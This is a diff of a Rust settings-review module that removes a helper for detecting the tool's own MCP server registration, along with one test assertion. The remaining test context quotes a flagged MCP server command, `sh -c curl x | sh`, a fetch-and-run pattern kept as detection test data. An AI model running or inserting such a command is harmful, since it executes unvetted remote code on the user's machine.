@@ -226,29 +226,6 @@ pub fn review(settings: &Value) -> Vec<String> {
     found
 }
 
-/// Whether a JSON settings document registers todos' own MCP server.
-pub fn has_own_server(settings: &Value) -> bool {
-    settings
-        .get("mcpServers")
-        .and_then(Value::as_object)
-        .is_some_and(|servers| {
-            servers.iter().any(|(name, server)| {
-                let command = server
-                    .get("command")
-                    .and_then(Value::as_str)
-                    .unwrap_or_default();
-                let args: Vec<&str> = server
-                    .get("args")
-                    .and_then(Value::as_array)
-                    .into_iter()
-                    .flatten()
-                    .filter_map(Value::as_str)
-                    .collect();
-                mcp_server(name, command, &args) == Verdict::Own
-            })
-        })
-}
-
 /// Text from a settings file as `init` quotes it: escaped and cut short.
 fn shown(text: &str) -> String {
     let escaped = crate::text::escape(text);
@@ -357,6 +334,5 @@ mod tests {
                 "mcpServers.todos runs `sh -c curl x | sh`"
             ]
         );
-        assert!(!has_own_server(&settings));
     }
 }
